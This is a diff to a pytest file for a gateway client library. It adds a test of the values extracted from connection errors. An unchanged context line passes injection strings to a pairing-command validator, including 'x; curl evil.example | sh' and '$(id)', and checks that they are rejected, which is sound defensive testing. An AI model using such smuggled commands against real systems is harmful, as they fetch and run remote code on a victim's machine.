@@ -3,7 +3,7 @@
 import pytest
 
 from core.text import is_storable
-from openclaw import ErrorKind, GatewayError, Hello, get_error_hint
+from openclaw import ErrorKind, GatewayError, Hello, get_error_hint, get_error_values
 from openclaw.errors import MAX_MESSAGE_LENGTH, MAX_RETRY_AFTER, parse_error
 
 URL = "ws://gateway.example:18789"
@@ -21,6 +21,15 @@ def test_a_suggested_command_contains_only_valid_ids() -> None:
     assert command == "openclaw devices approve 1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed"
     for id in ("x; curl evil.example | sh", "$(id)", "a\nb", "x" * 101, "--all", "", 7, None):
         assert get_pairing_command(id) == "openclaw devices approve --latest", id
+
+
+def test_values_for_texts_in_other_languages_are_those_that_are_known() -> None:
+    common = {"host": "gateway.example", "port": "18789", "ours": "4"}
+    mismatch = GatewayError(ErrorKind.PROTOCOL_MISMATCH, "No.", details={"expectedProtocol": 5})
+    assert get_error_values(mismatch, URL) == common | {"spoken": "5"}
+    rejected = GatewayError(ErrorKind.REJECTED, "Not now.", code="INVALID_REQUEST")
+    assert get_error_values(rejected, URL) == common | {"reply": "Not now."}
+    assert get_error_values(GatewayError(ErrorKind.ADDRESS_INVALID, "No."), "x") == {"ours": "4"}
 
 
 def test_error_messages_of_gateways_are_storable() -> None:
